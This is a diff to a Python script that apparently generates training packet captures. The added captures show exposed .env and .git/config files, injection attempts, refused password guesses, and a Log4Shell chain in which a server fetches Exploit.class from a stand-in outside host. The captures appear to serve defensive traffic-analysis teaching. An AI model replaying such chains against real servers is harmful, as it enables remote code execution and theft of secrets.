@@ -136,6 +136,37 @@ _capture(
     ],
 )
 
+_capture(
+    "secrets-served.pcap",
+    "files that should not be served are: .env and .git/config",
+    [
+        Visit("/.env", reply=b"DB_PASSWORD=x\n", reply_type="application/octet-stream"),
+        Visit("/.git/config", reply=b"[core]\n\tbare = false\n", reply_type="text/plain"),
+    ],
+)
+_capture("injection.pcap", "a script tag, an external entity and a shell's command", list(attacks.INJECTION))
+_capture(
+    "brute-force.pcap",
+    "twelve passwords are tried, and refused",
+    [
+        Visit("/intranet", headers=(f"Authorization: Basic {basic}",), status="401 Unauthorized")
+        for basic in attacks.guesses(12)
+    ],
+)
+
+
+@WORKSHOP.piece("log4shell-chain.pcap", "a server is sent a Log4j lookup, then fetches a Java class: it worked")
+def log4shell() -> Crafted:
+    sent = talk_of([Visit(agent=attacks.LOG4J[0])], orig=("10.20.0.31", 49152), resp=("10.20.0.80", 80))
+    fetched = talk_of(
+        [_download("/Exploit.class", JAVA_CLASS, "application/java-vm", "Java/1.8.0_181", "198.51.100.66:8888")],
+        orig=("10.20.0.80", 40112),
+        resp=("198.51.100.66", 8888),
+        now=sent.now + 2 * 10**9,
+    )
+    return crafted(sent, fetched, readable=False)
+
+
 # What is given away
 _capture(
     "credentials.pcap",
@@ -305,7 +336,7 @@ _capture(
         Visit("/e", "POST", body=b'{"template": "Dear {{name}}, ${amount}", "id": 7}', content_type="application/json"),
         Visit("/password-reset"),
         Visit("/pictures/passport.jpg", reply=bytes.fromhex("ffd8ffe000104a46494600010100"), reply_type="image/jpeg"),
-        Visit("/readme.txt", reply=b"MZ is how programs begin\n", reply_type="text/plain"),
+        Visit("/readme.txt", reply=b"Programs begin with MZ\n", reply_type="text/plain"),
         Visit("/news.php?id=17&lang=nb"),
         Visit("/.well-known/security.txt", **NOT_FOUND),
         Visit("/ocsp-explained.html", reply=PAGE),
